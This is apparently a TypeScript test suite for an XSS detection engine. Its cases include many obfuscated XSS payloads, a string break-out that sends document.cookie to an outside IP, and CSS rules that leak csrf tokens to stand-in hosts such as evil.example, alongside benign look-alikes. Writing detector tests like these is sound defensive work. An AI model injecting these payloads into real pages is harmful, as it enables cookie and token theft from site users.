import fc from 'fast-check';
import { Detector, InspectedValue, LEVEL_THRESHOLDS, inspectValue, ruleScore, type ValueLocation } from '@/runtime/analyzer/engine/detection';
import { MarkupEffect, SCRIPT_EFFECTS, markupEffects } from '@/runtime/analyzer/engine/detection/html';
import { xssPack } from '@/runtime/analyzer/engine/detection/rules/xss';
import { viewRequest } from '@/runtime/analyzer/engine/message-view';
import { resolveLimits } from '@/runtime/analyzer/engine/limits';
import { corpusExchange } from '@/test/bench/corpora';
import { isScriptFree } from '@/test/bench/corpora/script-free';
import { loadOwnCases } from '@/test/fixtures/detection-cases';

/** The XSS rules a value matches (only the XSS pack: other packs do not blur the weights). */
const xssIds = (value: string, location: ValueLocation = 'query'): number[] => {
  const ids: number[] = [];
  const v = new InspectedValue(location, 'q', value);
  if (xssPack.prefilter(v)) xssPack.inspect(v, (rule) => ids.push(rule.id));
  return ids;
};

/** The whole engine's score for one value, as the detector sums it (each distinct rule once). */
const scoreOf = (value: string, location: ValueLocation = 'query'): number => {
  const rules = new Map(inspectValue(new InspectedValue(location, 'q', value)).map((r) => [r.id, ruleScore(r)]));
  return [...rules.values()].reduce((sum, score) => sum + score, 0);
};
const alertsAt = (level: 1 | 2 | 3 | 4, value: string, location: ValueLocation = 'query') => scoreOf(value, location) >= LEVEL_THRESHOLDS[level];

/** The same payload as a query value arrives in several encodings once the placement has decoded it once. */
const encodings = (payload: string): string[] => [payload, encodeURIComponent(payload), encodeURIComponent(encodeURIComponent(payload))];

describe('XSS techniques (own knowledge, each in raw, URL and double URL encoding)', () => {
  it.each([
    ['browser-local res:// page with script in its fragment', 'res://ieframe.dll/navcancl.htm#,javascript:print()', 200129],
    ['res:// probing an installed program', 'res://c:\\program files\\app\\app.exe/#2/#100', 200129],
    ['MHTML archive read across zones', 'mhtml:http://203.0.113.9/m.mht!p.html', 200129],
    ['CHM archive through ms-its:', 'ms-its:mhtml:file://c:/z.mht!http://203.0.113.9/h.chm::/a.html', 200129],
    ['Firefox command-line handler', 'firefoxurl:x" -chrome "javascript:print()', 200129],
    ['Windows Help Center', 'hcp://services/search?query=x&topic=hcp://system/sysinfo/sysinfomain.htm', 200129],
    ['JSFuck letter from a coerced boolean', '(![]+[])[+[]]+(!![]+[])[+[]]', 200130],
    ['JSFuck number from empty arrays', '[!+[]+!+[]+!+[]]', 200130],
    ['"[object Object]" as a letter source', '({}+"")[!+[]+!+[]]', 200130],
    ['jjencode start', '$=~[];$={___:++$}', 200130],
    ['aaencode faces used as code', "c=(\uff9f\u0398\uff9f) =(\uff9f\uff70\uff9f)-(\uff9f\uff70\uff9f); (\uff9f\u0414\uff9f) ['_']", 200130],
    ['Function on joined literals', "Function('pri'+'nt()')()", 200131],
    ['setTimeout on joined literals', 'setTimeout("docu"+"ment.write(1)")', 200131],
    ['comma-operator indirect eval', "(0,eval)('print()')", 200131],
    ['comma-operator indirect alert', '(1,alert)(document.domain)', 200131],
    ['word spelt as a base-36 number', 'top[8680439..toString(30)](1)', 200131],
    ['letters spelt as base-36 numbers', 'self[30..toString(36)+(1234).toString(36)]', 200131],
    ['navigation to a decoded string', "location.href=atob('amF2YXNjcmlwdDpwcmludCgp')", 200131],
    ['with(document) reaching page globals', "with(document)write('x')", 200132],
    ['__parent__ climbing to the window', 'x.__parent__.print()', 200132],
    ['dynamic import of a remote module', "import('//203.0.113.9/m.js')", 200132],
    ['jQuery loading a remote script', "$.getScript('https://203.0.113.9/j.js')", 200132],
    ['spaced-out script tag', '< script >print()< / script >', 200134],
    ['sink call closing a tag', 'confirm("x")>', 200135],
    ['handler tail closing a tag', 'onfocus=go(1)>', 200135],
    ['ternary on a constant picking a string piece', "s1=1?'':'jav';s2=0?\"\":'ascript:'", 200137],
    ['regular-expression literals compared as conditions', 'a=/x/!=/x/?p[1]:0,b=/y/==/z/?0:p[2]', 200137],
    ['a number literal indexed and called', 'x;1[c+o](d)', 200136],
    ['a single constant ternary over strings', "u=false ? '' : 'prompt'", 200136],
    ['letter-free JavaScript spaced out', '( ! [ ] + [ ] ) [ + [ ] ]', 200130],
    ['"undefined" as a letter source', '([][[]]+"")[1]', 200130],
    ['string break-out calling print()', "';print()//", 200106],
    ['string break-out calling fetch', "\";fetch('//203.0.113.9/'+document.cookie)//", 200106],
    ['window.onerror pointed at a sink', 'window.onerror=alert;throw 1', 200118],
    ['a sink renamed and called', 'x=alert,x(1)', 200141],
    ['navigation to window.name', "';location=name//", 200118],
    ['spaced with() scope', 'with ( document ) write(1)', 200132],
    ['Netscape JavaScript entity', '&{alert(1)};', 200114],
  ])('%s', (_technique, payload, id) => {
    for (const value of encodings(payload)) {
      // Query values arrive percent-decoded once: the engine's decoding layer undoes the rest.
      expect(xssIds(decodeURIComponent(value))).toContain(id);
    }
  });

  it.each([
    ['dirname naming another field', '<input name="n" value="x" dirname="csrf_token">', MarkupEffect.FormFieldHijack],
    ['dirname on a text area', '<textarea name=t dirname=password></textarea>', MarkupEffect.FormFieldHijack],
    ['repetition template', '<li repeat="template" repeat-start="100000">x</li>', MarkupEffect.RepetitionTemplate],
    ['CSS hex escape of a letter in a style', '<div style="x:\\65 xpression(1)">', MarkupEffect.EvasiveSyntax],
    ['zero-padded CSS escapes', '<div style="\\000063\\00006f lor:red">', MarkupEffect.EvasiveSyntax],
    ['CSS escape of a non-hex letter', "<a style='no\\xss:x'>", MarkupEffect.EvasiveSyntax],
    ['plug-in parameter loading a remote movie', '<param name="movie" value="//203.0.113.9/m.swf">', MarkupEffect.EmbeddedContent],
  ])('markup: %s', (_technique, text, effect) => {
    expect(markupEffects(text.toLowerCase()) & effect).toBe(effect);
  });

  it("reads no string break-out in a Python block's colon at the end of its line", () => {
    const script = "def main():\n    pass\n\nif __name__ == '__main__':\n    print([fib(i) for i in range(10)])\n";
    expect(xssIds(script)).not.toContain(200106);
    for (const payload of ["':print(1)//", "';\nprint()//", "'?'':print()"])
      expect({ payload, ids: xssIds(payload) }).toEqual({ payload, ids: expect.arrayContaining([200106]) });
  });

  it('reads markup in IMAP-style UTF-7 (`&` shifts), also with non-zero padding bits', () => {
    expect(xssIds('&ADw-img src=z onerror=print()&AD4-')).toContain(200113);
    // `&ADz` is "<" with its two spare bits set; each character shifted on its own.
    expect(xssIds('&ADz-svg&ACA-onload&AD0-print()&AD4-')).toContain(200113);
    expect(xssIds('Tom &AMP; Jerry &ADC analytics')).not.toContain(200113);
  });
});

describe('XSS weights: weak evidence does not alert alone at level 1', () => {
  it('alerts at level 1 on sure techniques in every placement and encoding (own cases)', () => {
    const detector = new Detector({ level: 1 });
    const { attacks, benign } = loadOwnCases();
    const mine = attacks.filter((r) => r.class === 'xss');
    expect(mine.length).toBeGreaterThan(900);
    const alerts = (record: (typeof attacks)[number]) => detector.detect(viewRequest(corpusExchange(record), resolveLimits(undefined))).alert;
    expect(mine.filter((r) => !alerts(r)).map((r) => r.id)).toEqual([]);
    const look = benign.filter((r) => r.id.startsWith('own:xss:'));
    expect(look.length).toBeGreaterThan(80);
    expect(look.filter(alerts).map((r) => r.payload)).toEqual([]);
  });

  it('scope tricks and spaced script tags alert from level 2, or at level 1 with markup', () => {
    for (const value of ["with(document)write('x')", '< script >x< / script >', "$.getScript('//203.0.113.9/j.js')"]) {
      expect({ value, l1: alertsAt(1, value), l2: alertsAt(2, value) }).toEqual({ value, l1: false, l2: true });
    }
    expect(alertsAt(1, '<b>hi</b> < script >')).toBe(true);
  });

  it('a field hijack, a repetition template or a CSS letter escape alerts at level 1 only as injected markup', () => {
    expect(alertsAt(1, '<input name=n dirname=csrf_token>')).toBe(true);
    expect(alertsAt(1, '<x repeat="template" repeat-start="9">')).toBe(true);
    expect(alertsAt(1, '<div style="\\63 olor:red">')).toBe(true);
    expect(xssIds('<x repeat="template">')).toEqual(expect.arrayContaining([200128, 200117]));
  });

  it('script building blocks (pages load scripts this way too) never alert alone, at any level', () => {
    const loader = "var s=document.createElement('script');s.async=true;s.src='https://cdn.example.com/t.js';document.head.appendChild(s)";
    expect(xssIds(loader)).toEqual([200133]);
    expect(alertsAt(4, loader)).toBe(false);
    expect(xssIds('a=/pri/.source+/nt/.source')).toContain(200133);
  });
});

describe('XSS look-alikes that must not match', () => {
  it.each([
    ['text naming the techniques', 'res:// installed software probing; firefoxurl: uri exploit (UXSS)'],
    ['a chat message with faces', 'Thanks! (^_^) (o^_^o) (\uff9f\u0414\uff9f) see you'],
    ['prose with a parenthesised aside', 'I agree with (window) cleaning on Fridays'],
    ['a price with a comma', 'price (0,99) EUR'],
    ['random ids in base 36', 'id=Math.random().toString(36).slice(2)'],
    ['a CSS background in a query string', 'style=color:red;background-image:url(https://cdn.example.com/a.png)'],
    ['icon font and CJK font-name escapes', "<p style=\"font-family:'\\5fae\\8f6f\\96c5\\9ed1';content:'\\f101'\">x</p>"],
    ['Tailwind-style selector escapes', '<style>.md\\:flex{display:flex}</style>'],
    ['an everyday SVG upload', '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 22h20z" fill="#333"/></svg>'],
    ['a form with a text direction field of its own', '<input name="comment" dir="auto">'],
    ['text mentioning javascript', 'Learn JavaScript: the good parts (javascript tutorial)'],
    ['a comparison in text', 'if a < b then print(a) > 0'],
    ['a timer with a function reference', 'setTimeout(refresh, 1000)'],
    ['a ternary on a variable', "label = debug ? '' : 'prod'"],
    ['nested form field names', 'items[0][name]=a&items[1][qty]=2'],
    ['a path with regex-like segments', '/a/b/!=/c/d'],
    ['an empty JSON array written with spaces', '{"items": [ ], "n": 0}'],
    ['a form field naming a dialog kind', 'type=prompt, label(optional)'],
    ['a workflow step naming a confirmation', 'action=confirm; step(2)'],
  ])('%s', (_what, value) => {
    expect(alertsAt(1, value)).toBe(false);
    expect(xssIds(value).filter((id) => [200127, 200128, 200129, 200130, 200131, 200132, 200134, 200135, 200136, 200137, 200138, 200141].includes(id))).toEqual(
      [],
    );
  });

  it('keeps benign SVG and styled markup free of script effects', () => {
    for (const text of [
      '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(#g)"/></svg>',
      '<div style="background:url(/a.jpg)">x</div>',
      '<param name="wmode" value="transparent"><param name="movie" value="movie.swf">',
    ]) {
      expect(markupEffects(text.toLowerCase()) & (SCRIPT_EFFECTS | MarkupEffect.EvasiveSyntax | MarkupEffect.FormFieldHijack)).toBe(0);
    }
  });

  it("never throws and stays bounded on arbitrary input made of the new rules' characters", () => {
    const unit = fc.constantFrom('(', ')', '[', ']', '!', '+', '~', '$', '_', '=', '&', 'A', 'D', 'w', '-', '\\', '6', '5', '.', 't', 'o', ' ', '<', '>');
    fc.assert(fc.property(fc.string({ unit, maxLength: 3000 }), (s) => Array.isArray(xssIds(s))));
  });
});

describe('corpus reporting aid: script-free payloads', () => {
  it('counts title lines, URLs and prose as script-free', () => {
    for (const text of [
      'IMG w/VBscript',
      'Author URL: http://example.org/',
      'res:// installed software probing',
      'XML (locally hosted)',
      'firefoxurl: uri exploit (UXSS)',
    ])
      expect({ text, free: isScriptFree(text) }).toEqual({ text, free: true });
  });

  it('counts markup, code, script URLs and encoded markup as carrying script', () => {
    for (const text of ['<b>', '%3Csvg%3E', 'a(0)', 'x=1', 'javascript:x', '+ADw-script', '&ADz&AGn', 'SCRIPT w/Alert()', '&#60;b&#62;'])
      expect({ text, free: isScriptFree(text) }).toEqual({ text, free: false });
  });
});

describe('markup written in UTF-7 with plain characters only', () => {
  // `<script>alert(1)</script>` as one UTF-7 shift: letters, digits, `+` and `-` only, the
  // characters the detector's plain-value fast path would otherwise wave through.
  const utf7 = '+ADwAcwBjAHIAaQBwAHQAPgBhAGwAZQByAHQAKAAxACkAPAAvAHMAYwByAGkAcAB0AD4-';

  it('reaches the XSS pack and alerts at level 1', () => {
    expect(alertsAt(1, utf7)).toBe(true);
  });

  it('leaves plain values with a "+A" that is no UTF-7 shift alone', () => {
    for (const value of ['Grade +A', 'C++ A+B', 'team+Alpha-2']) expect(scoreOf(value)).toBe(0);
  });
});

describe('markup look-alikes and CSS loading SVG documents', () => {
  it.each([
    ["V8's rendering of an object in an error message", "Cannot assign to read only property 'call' of object '#<Object>'"],
    ['a list of tag names', '<style div <div <img >div >>script'],
    ['an SVG icon in a data: URL', 'el=data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"></svg>'],
    ['a JSON document carrying a page snippet', '{"innerText":"<div id=\\"x\\">t</div>","n":1}'],
    ['JSON-LD with paragraphs', '[{"@type":"Product","description":"<p>Soft</p>"}]'],
  ])('%s is not markup', (_what, value) => {
    expect(xssIds(value)).not.toContain(200117);
  });

  it('still reads markup around a data: URL, and script inside one', () => {
    expect(xssIds('data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"></svg><b>x</b>')).toContain(200117);
    expect(xssIds('<img src="data:image/svg+xml,<svg onload=alert(1)>">')).toContain(200102);
    expect(xssIds('{"a":"<img src=x onerror=alert(1)>"}')).toContain(200102);
  });

  it('CSS loading an SVG document alerts with the markup from level 2, not at level 1', () => {
    for (const value of [
      '<div style="background:url(//203.0.113.9/x.svg)">x</div>',
      '<svg xmlns="http://www.w3.org/2000/svg"><path style="mask:url(m.svg#a)"/></svg>',
    ]) {
      expect(xssIds(value)).toContain(200138);
      expect({ value, l1: alertsAt(1, value), l2: alertsAt(2, value) }).toEqual({ value, l1: false, l2: true });
    }
    expect(xssIds('<style>@font-face{font-family:y;src:url("f.svg#y") format("svg")}</style>')).toContain(200138);
    expect(xssIds('<div style="background:url(/a.png)">x</div>')).not.toContain(200138);
    expect(xssIds('style=background:url(/a.svg)')).not.toContain(200138);
  });
});

describe('validation patterns that backtrack exponentially', () => {
  it.each(['<input pattern=^((a+.)a)+$ value=aaaaaaaaaaaaaaaaaaaaaaaa!>', '<input pattern="(x*)*y">', "<textarea pattern='([a-z]+)+$'>"])(
    '%s is read as a backtracking pattern, alerting from level 2 with the markup',
    (value) => {
      expect(markupEffects(value.toLowerCase()) & MarkupEffect.BacktrackingPattern).toBe(MarkupEffect.BacktrackingPattern);
      expect({ l1: alertsAt(1, value), l2: alertsAt(2, value) }).toEqual({ l1: false, l2: true });
    },
  );

  it.each(['<input pattern="[0-9]{3}-[0-9]{4}">', '<input pattern="(\\d{3})+">', '<input name="q" placeholder="(a+)+">', 'pattern=(a+)+'])(
    '%s is not',
    (value) => {
      expect(xssIds(value)).not.toContain(200139);
    },
  );
});

describe('page-structure markup', () => {
  it.each([
    ['an XHTML element under a namespace prefix', "<html:html xmlns:html='http://www.w3.org/1999/xhtml'>"],
    ['a style sheet after injected text', 'XXX<style>*{color:red}</style>'],
    ['a body with its own attributes', '<body bgcolor=red>'],
    ['a password form', '<form method=post>Password: <input name=pw type=password></form>'],
    ['a meta tag', '<meta name="robots" content="noindex">'],
    // Not an icon: an SVG without a viewBox, or one whose attributes do more than size and paint it.
    ['an SVG drawing an external marker', 'Q3 report<svg xmlns="http://www.w3.org/2000/svg"><path d="m0,0" style="marker-start:url(m.svg#a)"/></svg>'],
    ['a root element with a style', '<html style="display:none">'],
    ['an SVG with a viewBox and a style', '<svg viewBox="0 0 9 9" style="position:fixed;top:0;left:0;width:99vw;height:99vh">'],
  ])('%s alerts at level 1 in every encoding', (_what, payload) => {
    for (const value of encodings(payload)) {
      expect(markupEffects(decodeURIComponent(decodeURIComponent(value)).toLowerCase()) & MarkupEffect.PageStructure).toBe(MarkupEffect.PageStructure);
    }
    expect(alertsAt(1, payload)).toBe(true);
  });

  it.each([
    ['formatting markup', '<p>Hello <b>world</b>, see <a href="/x">this</a></p>'],
    ['an SVG icon upload', '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M1 1"/></svg>'],
    ['an XHTML file with a declaration and doctype', '<?xml version="1.0"?>\n<!DOCTYPE html><html><body><p>x</p></body></html>\n'],
    ['a SOAP envelope', '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>'],
    ['a tag a page cut off before any value', 'initial-scale=1.0>\n    <meta name='],
    ['an end tag on its own', '</style>'],
    ['a search for a bare tag that loads nothing without an attribute', '<iframe> lazy loading'],
    ['a bare form tag', 'what does <form> do'],
    ["a rich-text API's body-wrapped text", '<body>Done \u2705 deployed in <a href="https://github.com/acme/api/pull/812">#812</a></body>'],
    // The parser ignores a document's own tags where the page's body already began.
    ['a document opened inside a field', '<HTML><BODY>'],
    ['a post naming where a script tag goes', 'Put the `<script>` tag right before `</head>` rather than at the end of `<body>`.'],
    // What a browser puts before HTML it copies to the clipboard (a page ignores it once its body began).
    ['HTML pasted from the clipboard', "<meta charset='utf-8'><p class=MsoNormal><b>Action items</b></p>"],
    // Session-replay scripts send the page's DOM, inline icons and all.
    [
      'a DOM snapshot with an inline icon',
      '<nav><a href="/search" class="js-open-search"><svg viewBox="0 0 24 24" aria-hidden="true" focusable="false" class="icon"><path d="M10 18a8 8 0 1 1 5.3-2z"/></svg></a></nav>',
    ],
    ['the root element a DOM snapshot opens with', '<html lang="hi" dir="ltr" class="js no-touch">'],
  ])('%s is not page-structure markup', (_what, value) => {
    expect(xssIds(value)).not.toContain(200140);
  });
});

it('reads bare tags that reshape the page (a style sheet, also after a break-out) as page-structure markup', () => {
  for (const value of ['<style>body{display:none}', 'Sale</title><style>*{visibility:hidden}']) expect(xssIds(value)).toContain(200140);
});

describe('markup after a break-out of the tag it lands in', () => {
  it.each(['"><b>x</b>', "'/><h1>Account suspended</h1>", '"><a href=https://attacker.example/>Click</a>', 'x" ><marquee>hi</marquee>'])(
    '%s alerts at level 1',
    (value) => {
      expect(xssIds(value)).toContain(200142);
      expect(alertsAt(1, value)).toBe(true);
    },
  );

  it.each([
    ['rich text opening its own tags first', '<p class="intro"><b>Hello</b> world</p>'],
    ['a quoted measure before a comparison', 'a 5" screen > 4" one'],
    ['markup after a quote with no tag end before it', 'He said "hi" <b>twice</b>'],
    ['a JSON document holding a fragment', '{"html":"\\"><b>x</b>"}'],
  ])('%s does not', (_what, value) => {
    expect(xssIds(value)).not.toContain(200142);
  });
});

describe('CSS exfiltration of a field by its first characters', () => {
  it.each([
    '<style>input[name=csrf][value^=a]{background:url(//evil.example/a)}</style>',
    'input[name="token"][value^="7f"] { background-image: url("https://x.example/?t=7f") }',
    '<style>[value$=z]{list-style:url(//e.example/z)}</style>',
  ])('%s alerts at level 1', (value) => {
    expect(xssIds(value)).toContain(200143);
    expect(alertsAt(1, value)).toBe(true);
  });

  it.each(['input[value="1"]{background:url(/check.png)}', '<style>a[href^="https"]{background:url(/ext.svg)}</style>', 'option[value^=a]{color:red}'])(
    '%s does not',
    (value) => {
      expect(xssIds(value)).not.toContain(200143);
    },
  );
});

describe("a player's embed address in rich text", () => {
  it('does not count a video or map embed as active content or page structure, and still counts other frames and attributes', () => {
    const embed = (src: string, extra = '') => `<p>Watch:</p><iframe width="560" height="315" src="${src}"${extra} allowfullscreen></iframe>`;
    for (const src of ['https://www.youtube.com/embed/dQw4w9WgXcQ', 'https://player.vimeo.com/video/76979871', 'https://www.google.com/maps/embed?pb=!1m18'])
      expect({ src, ids: xssIds(embed(src), 'body_json').filter((id) => id === 200104 || id === 200140) }).toEqual({ src, ids: [] });
    for (const src of ['https://evil.example/phish', 'javascript:alert(1)', 'https://www.youtube.com.evil.example/embed/x'])
      expect({ src, ids: xssIds(embed(src), 'body_json') }).toEqual({ src, ids: expect.arrayContaining([200104]) });
    expect(xssIds(embed('https://www.youtube.com/embed/x', ' srcdoc="<script>alert(1)</script>"'), 'body_json')).toContain(200104);
  });
});
